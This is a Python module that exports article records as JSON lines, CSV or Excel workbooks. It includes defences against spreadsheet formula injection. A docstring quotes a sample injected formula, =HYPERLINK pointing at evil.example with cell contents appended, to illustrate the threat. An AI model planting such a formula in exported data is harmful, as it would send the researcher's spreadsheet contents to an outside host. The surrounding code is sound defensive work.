"""Records (one dict per article) written as JSON lines or CSV, for `rasd search` and `rasd export`."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Iterator, Sequence
from contextlib import suppress
from datetime import UTC, datetime, tzinfo
from pathlib import Path
from typing import IO, Any

from rasd.monitor.written import replaced


def _cell(value: Any) -> Any:
    """A CSV cell: a list joined with ` | ` (names and reasons hold spaces), a `{source, url}` as `source url`."""
    if isinstance(value, list):
        return " | ".join(" ".join(map(str, item.values())) if isinstance(item, dict) else str(item) for item in value)
    return value


# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV Injection"); tab, CR and
# LF are among them because some spreadsheets skip them before looking for the "=".
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _text_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text, never runs (OWASP's CSV injection advice).

    Titles and texts come from any site: `=HYPERLINK("http://evil.example/?"&A1,"Lire")` opened in the
    researcher's Excel or LibreOffice runs and sends other cells to its address. A text starting with a
    formula character gets a leading `'`, which the spreadsheet reads as "text follows" and hides. Numbers
    (score, ids) are written as they are, a negative one too; Arabic or French text that starts otherwise
    is untouched. Every text cell is also quoted (QUOTE_NONNUMERIC): a French Excel splits an unquoted
    line on `;`, so `a;=1+1` would otherwise start a cell of its own with `=`."""
    value = _cell(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def reasons_said(records: Iterable[dict[str, Any]], language: str) -> Iterator[dict[str, Any]]:
    """`records` with their classifier's reasons (stored as English lines) in `language`, as `rasd explain` says
    them ("correspondance : التعاونيات ×3", "الجهة MA-09 عبر تيزنيت ×2"): the reader's words and way of writing
    numbers, the story's words as they are, no bidi marks (a spreadsheet lays the cell out; a script compares
    it). A line no reason message matches stays as stored."""
    if language == "en":
        yield from records
        return
    from rasd.config.reasons import reason_told
    from rasd.monitor.speech import Speech

    said = Speech(language, marked=False)
    for record in records:
        record["reasons"] = [said.told(reason_told(line)) for line in record["reasons"]]
        yield record


def write_records(records: Iterable[dict[str, Any]], output: str, sink: IO[str], fields: Sequence[str]) -> int:
    """Write `records` to `sink` as `jsonl` or `csv` (with a header of `fields`); how many were written."""
    written = 0
    writer = (
        csv.DictWriter(sink, fields, lineterminator="\n", extrasaction="ignore", quoting=csv.QUOTE_NONNUMERIC)
        if output == "csv"
        else None
    )
    if writer is not None:
        writer.writeheader()
    for record in records:
        if writer is not None:
            writer.writerow({key: _text_cell(value) for key, value in record.items()})
        else:
            sink.write(json.dumps(record, ensure_ascii=False) + "\n")
        written += 1
    return written


# The export's times (ISO 8601 UTC, "…Z"), written to a workbook as dates in the reader's time zone
TIMES = ("published_at", "fetched_at", "labelled_at")
DATE_FORMAT = "yyyy-mm-dd hh:mm"  # sorts as it reads, in any spreadsheet's locale
# A workbook column's width (in characters) for the long texts: a spreadsheet opens every column at ~8.4,
# where a title, an address or the reasons showed their first word
WIDE_COLUMNS = {"title": 60, "url": 45, "reasons": 60, "text": 80, "story_sources": 30, "source": 22}
DATE_WIDTH = 17  # "2026-12-04 22:14" and the cell's margin


def write_workbook(
    records: Iterable[dict[str, Any]],
    path: Path,
    fields: Sequence[str],
    language: str = "en",
    zone: tzinfo = UTC,
) -> int:
    """Write `records` as one sheet of an Excel workbook at `path` (a header of `fields`); how many were written.
    The header is in `language`, the words `rasd browse` gives the columns (a French or Arabic official read
    "published_at", "reader_sse" above their stories), the schema's names in English; an Arabic sheet reads
    right to left. CSV and JSON lines keep the schema's names, for scripts.

    Why a workbook and not only CSV: a UTF-8 CSV opened by a double click in Excel shows Arabic and accents
    garbled (it reads the file in the machine's code page), and a French Excel splits on `;`, so every
    column lands in the first one. openpyxl's write-only mode streams the rows (flat memory for years of
    stories); the file appears complete or not at all (written beside it, then renamed).

    Times (`TIMES`) are dates, not text: a spreadsheet sorts and filters them by date ("published in
    November"). They are in `zone` (the config's `timezone`, as the digests show them; a workbook's dates carry
    no zone), which their headers name: "publié (Africa/Casablanca)", `published_at (Africa/Casablanca)`."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    def moment(value: str | None) -> Any:
        if not value:
            return None
        local = datetime.fromisoformat(value).astimezone(zone).replace(tzinfo=None)
        dated = WriteOnlyCell(sheet, local)
        dated.number_format = DATE_FORMAT
        return dated

    def cell(value: Any) -> Any:
        value = _cell(value)
        if not isinstance(value, str):
            return value
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        if not value.startswith("="):
            return value
        # openpyxl stores a text starting with "=" as a formula: a page's title "=HYPERLINK(…)" would run in
        # the researcher's Excel (sending other cells to its address). Text it is, shown as published.
        text = WriteOnlyCell(sheet, value)
        text.data_type = "s"
        return text

    # the .part goes whatever ends the writing: a Ctrl-C or a failed read of the store mid-sheet too
    with replaced(path) as partial:
        # made before the sheet is begun: a folder refusing the file fails here, not inside openpyxl's half-written
        # sheet (whose generators printed "Exception ignored in …" tracebacks under the line saying it)
        partial.touch()
        book = Workbook(write_only=True)
        try:
            sheet = book.create_sheet("articles")
            if language != "en":
                from rasd.alerts.i18n import direction, translations
                from rasd.monitor.browse_names import COLUMN_NAMES, namer

                words = namer(COLUMN_NAMES, translations(language))
                sheet.sheet_view.rightToLeft = direction(language) == "rtl"
                header = [words.get(field, field) for field in fields]
            else:
                header = list(fields)
            named = str(zone)  # "Africa/Casablanca"; the browse's names say "(UTC)", where these dates are not
            header = [
                (label.replace("(UTC)", f"({named})") if "(UTC)" in label else f"{label} ({named})")
                if field in TIMES
                else label
                for field, label in zip(fields, header, strict=True)
            ]
            # What a spreadsheet user sees on opening (newcomer13's trial): each column wide enough for its heading,
            # the long texts wider; the heading row in bold, kept in view while scrolling, with its filter buttons
            for index, (field, label) in enumerate(zip(fields, header, strict=True), start=1):
                width = WIDE_COLUMNS.get(field, DATE_WIDTH if field in TIMES else 0)
                sheet.column_dimensions[get_column_letter(index)].width = max(width, min(len(label) + 3, 40))
            sheet.freeze_panes = "A2"
            bold = Font(bold=True)
            headings = []
            for label in header:
                heading = WriteOnlyCell(sheet, label)
                heading.font = bold
                headings.append(heading)
            sheet.append(headings)
            written = 0
            for record in records:
                sheet.append(
                    [moment(record.get(field)) if field in TIMES else cell(record.get(field)) for field in fields]
                )
                written += 1
            if fields:
                sheet.auto_filter.ref = f"A1:{get_column_letter(len(fields))}{written + 1}"
            _save(book, partial)
        except BaseException:
            _abandoned(book)
            raise
    return written


def _abandoned(book: Any) -> None:
    """Close what a workbook that failed left open, in its order: each sheet's writers (generators writing its rows
    to a temporary file). Collected at the interpreter's exit instead, out of order, they printed "Exception ignored
    in: <generator object WorksheetWriter.get_stream …>" and lxml's "inconsistent exit action" under the command's
    one line."""
    for sheet in book.worksheets:
        if not sheet.closed:
            with suppress(Exception):  # a sheet its failed save had begun to close: what it left is dropped
                sheet.close()


def _save(book: Any, path: Path) -> None:
    """What `book.save(path)` does (openpyxl's `save_workbook`), with the zip archive ours to close: on a full
    disk openpyxl left it open, and its `__del__`, run when the exception was collected, failed again on the
    same disk: "Exception ignored in: <function ZipFile.__del__ …>" and its traceback under the command's one
    line. (These and `_abandoned`'s were hidden by replacing `sys.unraisablehook` for the whole process, which
    hid any later such error too.)"""
    from zipfile import ZIP_DEFLATED, ZipFile

    from openpyxl.writer.excel import ExcelWriter

    archive = ZipFile(path, "w", ZIP_DEFLATED, allowZip64=True)
    try:
        book.properties.modified = datetime.now(UTC).replace(tzinfo=None)
        ExcelWriter(book, archive).save()  # writes every part, then closes the archive
    except BaseException:
        with suppress(OSError, ValueError):  # its closing writes fail again on a full disk: the first error is said
            archive.close()
        raise
